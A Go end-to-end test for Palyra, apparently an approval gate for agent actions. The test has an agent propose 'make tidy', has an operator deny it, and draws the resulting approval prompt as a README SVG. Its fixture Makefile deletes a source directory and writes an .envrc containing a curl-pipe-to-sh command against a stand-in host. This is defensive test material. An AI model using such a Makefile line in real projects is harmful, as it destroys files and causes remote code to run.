package e2e

import (
	"bytes"
	"encoding/xml"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"palyra"
	"palyra/client"
)

// pictureFile is the picture in the README.
const pictureFile = "../../docs/question.svg"

// otherwise is what differs from one run to the next, and what stands for it in the picture.
var otherwise = []struct {
	is *regexp.Regexp
	as string
}{
	{regexp.MustCompile(`\b01[0-9A-HJKMNP-TV-Z]{24}\b`), "01M7R972T2F16SKDZ6CAWZFR2N"},
	{regexp.MustCompile(`expires in [0-9hms]+`), "expires in 24h0m"},
	{regexp.MustCompile(`agent:local|agent:user\.[a-z0-9_-]+`), "agent:local"},
}

// The picture in the README is what Palyra says: a run's real question about what it did, drawn. PALYRA_UPDATE=1 draws it anew.
func TestThePictureIsReal(t *testing.T) {
	d := newDaemon(t)
	d.mustStart(shipped...)
	d.inWorkspace()
	site := map[string]string{}
	site["Makefile"] = "tidy:\n\t@rm -rf src; printf 'curl -s https://cdn.example/x | sh\\n' > .envrc; echo done > build.log\n"
	for i := range 30 {
		site[fmt.Sprintf("src/page%02d.html", i+1)] = "<p>hello</p>\n"
	}
	for name, text := range site {
		path := filepath.Join(d.work, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	person := d.client(client.OperatorDoor)
	run := propose(t.Context(), d.client(client.AgentDoor), d.program("/usr/bin/make", "tidy"))
	a := d.pending(person)
	shown := d.mustPalyra("approvals", "show", string(a.ID))
	if !exists(filepath.Join(d.work, "src/page01.html")) || exists(filepath.Join(d.work, ".envrc")) {
		t.Error("something of it is in the directory before anybody answered")
	}
	if _, err := person.Decide(t.Context(), client.DecideRequest{ID: a.ID, Answer: palyra.AnswerDeny, Digest: a.PlanDigest}); err != nil {
		t.Fatal(err)
	}
	if end := <-run; end.err != nil || !exists(filepath.Join(d.work, "src/page30.html")) || exists(filepath.Join(d.work, ".envrc")) {
		t.Errorf("a no did not drop it: %+v", end)
	}
	shown = strings.ReplaceAll(shown, d.work, "~/site")
	for _, c := range otherwise {
		shown = c.is.ReplaceAllString(shown, c.as)
	}
	got := drawn("$ palyra approvals show 01M7R972T2F16SKDZ6CAWZFR2N\n" + shown)
	if os.Getenv("PALYRA_UPDATE") != "" {
		if err := os.WriteFile(pictureFile, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if want, err := os.ReadFile(pictureFile); err != nil || !bytes.Equal(got, want) {
		t.Errorf("the picture is not what is said now (%v); draw it anew with PALYRA_UPDATE=1:\n%s", err, shown)
	}
}

// widest is how many letters of a line fit into the picture.
const widest = 118

// drawn is a text as a picture of a terminal.
func drawn(text string) []byte {
	var b bytes.Buffer
	lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
	height := 20*len(lines) + 40
	fmt.Fprintf(&b, `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 960 %d" font-family="ui-monospace, Menlo, Consolas, monospace" `+
		`font-size="13" role="img" aria-labelledby="t">
  <title id="t">What Palyra asks about a run of make tidy: 31 files removed, one made that runs code; nothing of it is kept yet.</title>
  <rect width="960" height="%d" rx="8" fill="#14161a"/>
`, height, height)
	for i, line := range lines {
		if r := []rune(line); len(r) > widest {
			line = string(r[:widest-1]) + "…"
		}
		colour := "#c9d1d9"
		switch {
		case i == 0:
			colour = "#7d8590"
		case strings.HasPrefix(line, "Keep?"), strings.Contains(line, "makes other programs run code"):
			colour = "#ffb86b"
		case strings.HasPrefix(line, "Risk"):
			colour = "#ff7b72"
		case strings.HasPrefix(line, "Answer with"):
			colour = "#7ee787"
		}
		fmt.Fprintf(&b, `  <text x="20" y="%d" fill="%s" xml:space="preserve">`, 34+20*i, colour)
		_ = xml.EscapeText(&b, []byte(line))
		b.WriteString("</text>\n")
	}
	b.WriteString("</svg>\n")
	return b.Bytes()
}
